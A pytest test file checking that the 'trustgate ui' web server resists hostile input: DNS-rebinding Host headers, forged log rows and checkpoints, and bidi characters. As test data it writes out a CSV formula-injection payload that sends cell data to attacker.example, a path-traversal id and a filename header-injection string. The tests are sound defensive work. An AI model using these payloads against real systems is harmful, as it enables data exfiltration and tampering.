"""`trustgate ui` over HTTP against hostile input: other Host names, hostile record strings, edited rows.

Each test that edits the log works on its own copy of a log real gates
wrote, and starts its own server on it.
"""

from __future__ import annotations

import csv
import hashlib
import io
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from support.ui_log import OLDER_SCHEMA, Log, Server, build_log, checked, copy_of, run, serve_ui


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Log:
    return build_log(tmp_path_factory.mktemp("ui-hostile"))


@pytest.fixture(scope="module")
def server(log: Log) -> Iterator[Server]:
    with serve_ui(log.url) as running:
        yield running


def get(server: Server, path: str, **kwargs: object) -> httpx.Response:
    return httpx.get(server.base + path, timeout=30, **kwargs)  # type: ignore[arg-type]


# -- S1: DNS rebinding ---------------------------------------------------------------------


def test_a_host_name_the_ui_does_not_answer_to_is_refused_before_anything_is_read(server: Server) -> None:
    """A rebinding page (attacker.example resolving to 127.0.0.1) names its own host: 421, no data."""
    port = server.base.rsplit(":", 1)[1]
    evil = {"Host": f"attacker.example:{port}"}
    for path in ("/decisions", "/export?name=x", "/static/style.css", "/login"):
        response = get(server, path, headers=evil)
        assert response.status_code == 421 and "--allowed-host" in response.text
        assert "<table" not in response.text and response.headers["content-type"].startswith("text/plain")
    posted = httpx.post(
        server.base + "/integrity/verify",
        headers={**evil, "Origin": f"http://attacker.example:{port}"},
        timeout=30,
    )
    assert posted.status_code == 421 and "location" not in posted.headers
    for name in ("127.0.0.1", "localhost", "LOCALHOST", "[::1]"):
        assert get(server, "/decisions", headers={"Host": f"{name}:{port}"}).status_code == 200
    assert get(server, "/decisions", headers={"Host": ""}).status_code == 421


def test_allowed_host_adds_a_name_and_a_wildcard_address_needs_one(log: Log) -> None:
    with serve_ui(log.url, "--allowed-host", "Audit.Example.com") as server:
        port = server.base.rsplit(":", 1)[1]
        assert get(server, "/decisions", headers={"Host": f"audit.example.com:{port}"}).status_code == 200
        assert get(server, "/decisions", headers={"Host": "other.example.com"}).status_code == 421
        origin = {"Host": f"audit.example.com:{port}", "Origin": f"http://audit.example.com:{port}"}
        assert httpx.post(server.base + "/integrity/verify", headers=origin, timeout=30).status_code == 303
    tls = ["--tls-cert", __file__, "--tls-key", __file__, "--client-ca", __file__]  # checked later
    code, _, err = run("ui", "--store", log.url, "--host", "0.0.0.0", "--port", "0", *tls)
    assert code == 2 and "--allowed-host" in err


# -- S4: a token a cookie would quote ------------------------------------------------------------


def test_a_token_with_cookie_separators_signs_a_browser_in(log: Log, tmp_path: Path) -> None:
    token = 'secret;token,with"quotes\\and/slash=0123456'
    (tmp_path / "tokens").write_text(token + "\n")
    with serve_ui(log.url, "--token-file", str(tmp_path / "tokens")) as server:
        signed_in = httpx.post(server.base + "/login", data={"token": token}, timeout=30)
        assert signed_in.status_code == 303
        with httpx.Client(base_url=server.base, cookies=signed_in.cookies, timeout=30) as client:
            assert client.get("/decisions").status_code == 200


# -- S3: the id column names nothing ----------------------------------------------------------------


def test_an_edited_id_column_names_no_path_and_no_header_parameter(log: Log, tmp_path: Path) -> None:
    """Proofs are named by the record's id (a UUID), never by the id column; a row whose column is not
    its record's id is refused (409) rather than proven under that name."""
    url = copy_of(
        log,
        tmp_path,
        "UPDATE decisions SET id = '../../../../tmp/pwned' WHERE seq = 2",
        """UPDATE decisions SET id = 'x"; filename="evil.html' WHERE seq = 3""",
        "UPDATE decisions SET id = '日' WHERE seq = 4",
    )
    with serve_ui(url) as server:
        archive = zipfile.ZipFile(io.BytesIO(get(server, "/export?name=ev").content))
        proofs = sorted(n for n in archive.namelist() if n.startswith("proofs/"))
        assert proofs == sorted(f"proofs/{log.ids[n]}.json" for n in ("good", "bad", "bad2", "legacy"))
        rows = {r["seq"]: r for r in csv.DictReader(io.StringIO(archive.read("records.csv").decode()))}
        assert [rows[s]["differs"] for s in ("1", "2", "3", "4")] == ["", "id", "id", "id"]
        for seq in (3, 4):  # not latin-1 (#4): no 500 either
            refused = get(server, f"/decisions/%23{seq}/proof")
            assert refused.status_code == 409 and "The decision log is inconsistent" in refused.text
            assert "content-disposition" not in refused.headers
        first = get(server, f"/decisions/{log.ids['good']}/proof")
        assert first.headers["content-disposition"] == f'attachment; filename="proof-{log.ids["good"]}.json"'


# -- S2: formulas in the archive's CSV --------------------------------------------------------------


def test_the_archive_csv_cells_never_start_a_formula(log: Log, tmp_path: Path) -> None:
    url = checked(log, tmp_path, "bad", '=HYPERLINK("http://attacker.example/?x="&B2,"open")', "@SUM(1+1)")
    with serve_ui(url) as server:
        archive = zipfile.ZipFile(io.BytesIO(get(server, "/export?name=ev").content))
    rows = list(csv.DictReader(io.StringIO(archive.read("records.csv").decode())))
    newest = rows[-1]
    assert newest["namespaces"] == '\'=HYPERLINK("http://attacker.example/?x="&B2,"open")'
    assert newest["objects"].startswith("Pod/=HYPERLINK")  # not at the start of a cell: no formula
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    assert "drop the leading '" in archive.read("README.txt").decode()


# -- F9: bidi controls are shown --------------------------------------------------------------------


def test_bidi_and_control_characters_in_record_strings_are_shown_as_escapes(log: Log, tmp_path: Path) -> None:
    url = checked(log, tmp_path, "bad-\u202emoc.elpmaxe\u202c", "shop\u2066x\u2069")
    with serve_ui(url) as server:
        page = get(server, "/decisions").text
        assert "bad-\\u202emoc.elpmaxe\\u202c" in page and "\u202e" not in page
        newest = page.split('href="/decisions/', 1)[1].split('"')[0]
        decision = get(server, f"/decisions/{newest}").text
        assert "\\u202e" in decision and "\u202e" not in decision and "\u2066" not in decision
        overview = get(server, "/overview").text  # the namespace chart's labels
        assert "shop\\u2066x\\u2069" in overview and "\u2066" not in overview


# -- F10, F11, F13 and bad parameters ---------------------------------------------------------------


def test_an_id_in_upper_case_finds_its_decision(server: Server, log: Log) -> None:
    page = get(server, f"/decisions/{log.ids['bad'].upper()}")
    assert page.status_code == 200 and log.ids["bad"] in page.text


def test_dates_before_year_1000_compare_as_dates(server: Server) -> None:
    assert get(server, "/decisions?since=0999-01-01").text.count('class="row') == 5
    assert 'id="empty"' in get(server, "/decisions?since=0001-01-01&until=0999-01-01").text


@pytest.mark.parametrize(
    ("path", "reason"),
    [
        ("/decisions?until=9999-12-31", "out of range"),
        ("/overview?until=9999-12-31", "out of range"),
        ("/report?until=9999-12-31", "out of range"),
        ("/export?until=9999-12-31", "out of range"),
        ("/decisions?since=0001-01-01T00:00:00%2B01:00", "out of range"),
        ("/decisions?since=9999-12-31T23:59:59-01:00", "out of range"),
    ],
)
def test_times_outside_the_years_1_to_9999_are_a_400(server: Server, path: str, reason: str) -> None:
    response = get(server, path)
    assert response.status_code == 400 and reason in response.text


@pytest.mark.parametrize(
    "path",
    ["/overview?since=0001-01-01", "/overview?until=0001-01-01T00:00:00Z", "/overview?since=0999-01-01"],
)
def test_an_overview_of_the_first_years_is_a_page(server: Server, path: str) -> None:
    assert get(server, path).status_code == 200


def test_a_chain_position_past_bigint_is_no_decision(server: Server) -> None:
    for path in ("/decisions/%239999999999999999999", "/decisions/%239999999999999999999/proof"):
        response = get(server, path)
        assert response.status_code == 404 and "no decision" in response.text


def test_the_filter_form_shows_every_value_the_url_gives(server: Server) -> None:
    page = get(server, "/decisions?namespace=shop&namespace=payments&verdict=deny&verdict=allow").text
    form = page.split("</form>")[0]
    assert 'name="namespace" value="shop"' in form and 'name="namespace" value="payments"' in form
    assert form.count("<option selected>") == 2
    assert "<option selected>deny" in form and "<option selected>allow" in form


# -- F12: the UI never migrates -------------------------------------------------------------------


def test_a_log_of_an_older_schema_is_refused_and_left_as_it_is(log: Log, tmp_path: Path) -> None:
    url = copy_of(log, tmp_path, *OLDER_SCHEMA)
    path = Path(url.removeprefix("sqlite:///"))
    before = hashlib.sha256(path.read_bytes()).hexdigest()
    with (
        pytest.raises(AssertionError, match=r"(?s)did not start.*schema 2.*trustgate log verify"),
        serve_ui(url),
    ):
        pass
    assert hashlib.sha256(path.read_bytes()).hexdigest() == before
    with sqlite3.connect(path) as db:
        assert db.execute("SELECT max(version) FROM schema_migrations").fetchone() == (2,)


# -- malformed stored data: flagged, the rest shown -----------------------------------------------


@pytest.mark.parametrize("body", ["'not json'", "'[1,2]'", """'{"subject":"x","findings":"y"}'""", "x'ff00'"])
def test_a_malformed_record_is_flagged_and_the_others_are_shown(log: Log, tmp_path: Path, body: str) -> None:
    url = copy_of(log, tmp_path, f"UPDATE decisions SET record = {body} WHERE seq = 3")
    with serve_ui(url) as server:
        listed = get(server, "/decisions")
        assert listed.status_code == 200 and 'id="malformed"' in listed.text
        assert listed.text.count('class="row') == 5 and log.ids["legacy"] in listed.text
        report = get(server, "/report")
        assert report.status_code == 200 and 'id="malformed"' in report.text
        decision = get(server, "/decisions/%233")
        assert decision.status_code == 200 and "not a decision record" in decision.text
        assert get(server, "/overview?rule=no-priv").status_code == 200
        exported = get(server, "/export?name=x")
        assert exported.status_code == 200
        archive = zipfile.ZipFile(io.BytesIO(exported.content))
        assert "MALFORMED" in archive.read("README.txt").decode()
        assert len(archive.read("records.jsonl").decode().splitlines()) == 4


@pytest.mark.parametrize("key", ["'not-base64!'", "'AAAA'"])
def test_a_malformed_checkpoint_key_is_flagged(log: Log, tmp_path: Path, key: str) -> None:
    url = copy_of(log, tmp_path, f"UPDATE checkpoints SET public_key = {key}")
    with serve_ui(url) as server:
        integrity = get(server, "/integrity")
        assert integrity.status_code == 200 and "malformed public key" in integrity.text
        assert get(server, "/export?name=x").status_code == 200


def test_a_checkpoint_row_with_a_text_position_is_a_503_with_the_reason(log: Log, tmp_path: Path) -> None:
    url = copy_of(log, tmp_path, "UPDATE checkpoints SET seq = '4x'")
    with serve_ui(url) as server:
        for path in ("/integrity", f"/decisions/{log.ids['after']}", "/report", "/export?name=x"):
            response = get(server, path)
            assert response.status_code == 503 and "not a number" in response.text, path


def test_a_checkpoint_beyond_the_log_offers_no_proof_and_says_why(log: Log, tmp_path: Path) -> None:
    """A checkpoint that verifies but signs more records than the log's tree holds (a log rolled back
    under it): no proof link, and the proof and the archive say why. (Checkpoint rows made up with
    another size do not verify: they are NOT VERIFIED, and proofs fall back to one that does.)"""
    url = copy_of(
        log,
        tmp_path,
        "DELETE FROM decisions WHERE seq > 3",
        "UPDATE chain_head SET seq = 3, hash = (SELECT hash FROM decisions WHERE seq = 3)",
    )
    with serve_ui(url) as server:
        page = get(server, f"/decisions/{log.ids['bad']}").text
        assert 'id="prove"' not in page and 'id="not-proven"' in page and "claims 4 records" in page
        assert "claims 4 records" in get(server, "/integrity").text
        proof = get(server, f"/decisions/{log.ids['bad']}/proof")
        assert proof.status_code == 409 and "claims 4 records" in proof.text and "holds 3" in proof.text
        exported = get(server, "/export?name=x")
        assert exported.status_code == 503 and "claims 4 records" in exported.text
    (tmp_path / "forged").mkdir()
    forged = copy_of(
        log,
        tmp_path / "forged",
        "INSERT INTO checkpoints (seq, hash, time, kind, key_id, public_key, signature, note) "
        "SELECT 1000, hash, time, kind, key_id, public_key, signature, "
        "replace(note, char(10) || '4' || char(10), char(10) || '1000' || char(10)) FROM checkpoints",
    )
    with serve_ui(forged) as server:
        page = get(server, f"/decisions/{log.ids['after']}").text
        assert 'id="prove"' not in page and "NOT VERIFIED" in page
        assert get(server, f"/decisions/{log.ids['after']}/proof").status_code == 409
        assert get(server, f"/decisions/{log.ids['bad']}/proof").status_code == 200  # under the genuine one


@pytest.mark.parametrize("seq", [-1, 0])
def test_a_record_moved_before_the_chain_start_is_the_inconsistent_page(
    log: Log, tmp_path: Path, seq: int
) -> None:
    url = copy_of(log, tmp_path, f"UPDATE decisions SET seq = {seq} WHERE seq = 1")
    with serve_ui(url) as server:
        for path in (
            "/export?name=x",
            f"/decisions/{log.ids['good']}",
            f"/decisions/{log.ids['good']}/proof",
        ):
            response = get(server, path)
            assert response.status_code == 409, path
            assert f"record #{seq} lies before the chain&#39;s start" in response.text, path
        assert get(server, "/decisions").status_code == 200


def test_a_chain_head_that_is_no_position_is_the_inconsistent_page(log: Log, tmp_path: Path) -> None:
    url = copy_of(log, tmp_path, "UPDATE chain_head SET seq = 'zz'")
    with serve_ui(url) as server:
        for path in ("/overview", "/decisions", "/decisions?verdict=deny", "/integrity"):
            response = get(server, path)
            assert response.status_code == 409 and "chain_head" in response.text, path


SUMMARY_EDITS = {
    "daily_seqs.last_seq": (
        "UPDATE daily_seqs SET last_seq = 'zz'",
        ["/overview", "/decisions", "/integrity"],
    ),
    "daily_seqs.first_seq": ("UPDATE daily_seqs SET first_seq = x'ff'", ["/decisions?since=DAY"]),
    "daily_counts.day": ("UPDATE daily_counts SET day = 'zz' WHERE kind = ''", ["/overview"]),
    "daily_counts.day blob": ("UPDATE daily_counts SET day = x'ff' WHERE kind = ''", ["/overview"]),
    "exceptions_seen.last_seq": ("UPDATE exceptions_seen SET last_seq = 'zz'", ["/overview"]),
}


@pytest.mark.parametrize("edit", SUMMARY_EDITS)
def test_summaries_of_another_type_are_flagged_and_the_records_read(
    log: Log, tmp_path: Path, edit: str
) -> None:
    """Summaries holding what no append writes (text or a BLOB for a position or a day): the pages read
    the records instead, all of them, and say the summaries disagree."""
    sql, paths = SUMMARY_EDITS[edit]
    url = copy_of(log, tmp_path, sql)
    day = log.expires[:4] + "-01-01"
    with serve_ui(url) as server:
        for path in paths:
            response = get(server, path.replace("DAY", day))
            assert response.status_code == 200, path
            assert (
                'id="summaries-disagree"' in response.text or "disagree with the records" in response.text
            ), path
            assert "altered" in response.text and "summaries-behind" not in response.text, path
            if path.startswith("/decisions"):
                assert response.text.count('class="row') == 5, path
            if path == "/overview":
                assert "5 decisions" in response.text, path
